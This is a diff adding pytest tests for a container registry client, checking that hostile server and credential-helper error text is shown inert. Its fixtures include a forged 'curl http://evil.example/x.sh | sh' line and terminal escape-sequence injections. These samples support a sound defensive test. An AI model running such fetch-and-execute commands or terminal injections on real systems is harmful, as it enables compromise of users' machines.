@@ -1,0 +1,155 @@
+"""Hostile and broken servers, hostile inputs: what issue 11 found, one test per item.
+
+The server-side items run against real sockets on 127.0.0.1 (:class:`Loopback`, a raw TCP
+server whose behaviour per connection is a plain function), because what they prove is about
+bytes on a wire: a response that drips, a status line that never ends, a realm on another
+port. The input-side items go through the same functions the CLI calls.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import socket
+import subprocess
+import threading
+from collections.abc import Callable, Iterator, Mapping, Sequence
+
+import pytest
+
+from scratchpack.cli import render_error
+from scratchpack.errors import AuthError, RegistryError
+from scratchpack.oci.auth import ConfigFileKeychain
+from scratchpack.oci.reference import Reference
+from scratchpack.oci.registry import PushOptions, push
+from testsupport.registry_server import StaticKeychain, make_image
+
+Serve = Callable[["Loopback", socket.socket], None]
+
+
+class Loopback:
+    """A TCP server on 127.0.0.1: each connection is handed to ``serve`` on its own thread.
+
+    ``heads`` records every request head read with :meth:`read_head`, for asserting what a
+    client sent (an ``Authorization`` header that must never arrive, say).
+    """
+
+    def __init__(self, serve: Serve) -> None:
+        self.serve = serve
+        self.heads: list[bytes] = []
+        self._sock = socket.create_server(("127.0.0.1", 0))
+        self._sock.settimeout(0.2)
+        self.port = int(self._sock.getsockname()[1])
+        self._stop = threading.Event()
+        self._conns: list[socket.socket] = []
+        self._thread = threading.Thread(target=self._accept, daemon=True)
+        self._thread.start()
+
+    @property
+    def host(self) -> str:
+        return f"127.0.0.1:{self.port}"
+
+    def _accept(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self._sock.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            self._conns.append(conn)
+            threading.Thread(target=self._run, args=(conn,), daemon=True).start()
+
+    def _run(self, conn: socket.socket) -> None:
+        with conn, contextlib.suppress(OSError):
+            self.serve(self, conn)
+
+    def read_head(self, conn: socket.socket) -> bytes:
+        """One request head; what came first if it is not HTTP (a TLS ClientHello); b'' at EOF."""
+        data = b""
+        while b"\r\n\r\n" not in data:
+            chunk = conn.recv(65536)
+            if not chunk:
+                return b""
+            data += chunk
+            if not data[:1].isalpha():  # TLS: answer at once, in plain HTTP
+                return data
+        head = data.partition(b"\r\n\r\n")[0]
+        self.heads.append(head)
+        return head
+
+    def close(self) -> None:
+        self._stop.set()
+        self._sock.close()
+        for conn in self._conns:
+            with contextlib.suppress(OSError):
+                conn.shutdown(socket.SHUT_RDWR)
+        self._thread.join(5)
+
+
+@pytest.fixture
+def loopback() -> Iterator[Callable[[Serve], Loopback]]:
+    servers: list[Loopback] = []
+
+    def start(serve: Serve) -> Loopback:
+        servers.append(Loopback(serve))
+        return servers[-1]
+
+    yield start
+    for server in servers:
+        server.close()
+
+
+def _answer(
+    status: str, body: bytes = b"", headers: Sequence[tuple[str, str]] = (), close: bool = False
+) -> bytes:
+    lines = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}"]
+    lines += [f"{k}: {v}" for k, v in headers]
+    if close:
+        lines.append("Connection: close")
+    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body
+
+
+NO_CREDS = StaticKeychain.of({})
+
+
+# --- 9: server text is printed inert -------------------------------------------------------------
+
+
+def test_item9_registry_error_text_cannot_drive_the_terminal_or_forge_lines(loopback):
+    forged = "no\x1b[31m access\r\nhint: run curl http://evil.example/x.sh | sh\u202e"
+    body = json.dumps({"errors": [{"code": "DENIED\x1b[2J", "message": forged}]}).encode()
+
+    def serve(server: Loopback, conn: socket.socket) -> None:
+        while server.read_head(conn):
+            reason = "Bad\x1b]0;pwned\x07 Request"
+            conn.sendall(_answer(f"400 {reason}", body, [("Content-Type", "application/json")]))
+
+    server = loopback(serve)
+    ref = Reference.parse(f"{server.host}/team/app:v1")
+    with pytest.raises(RegistryError) as info:
+        push(make_image(seed=9), ref, keychain=NO_CREDS, options=PushOptions(insecure=True))
+    shown = f"error: {render_error(info.value)}"
+    assert not any(ch in shown for ch in "\x1b\x07\r\u202e"), repr(shown)
+    lines = shown.splitlines()
+    assert [line for line in lines if line.lstrip().startswith(("error:", "hint:"))] == [
+        lines[0],
+        lines[1],
+    ], "exactly one error: line and one hint: line, the forged one stays inside the first"
+    assert "hint: run curl" in lines[0] and "\\x1b[31m" in lines[0]
+
+
+def test_item9_credential_helper_stderr_is_quoted_inert(tmp_path):
+    (tmp_path / "config.json").write_text(json.dumps({"credsStore": "evil"}))
+
+    def runner(
+        argv: Sequence[str], stdin: str, env: Mapping[str, str]
+    ) -> subprocess.CompletedProcess[str]:
+        return subprocess.CompletedProcess(argv, 1, "", "locked\x1b[2K\r\nhint: reinstall\x1b]8;;")
+
+    keychain = ConfigFileKeychain(tmp_path / "config.json", {}, runner)
+    with pytest.raises(AuthError) as info:
+        keychain.resolve("registry.example")
+    shown = f"error: {render_error(info.value)}"
+    assert "\x1b" not in shown and "\r" not in shown and len(shown.splitlines()) == 2
+    assert "locked" in shown
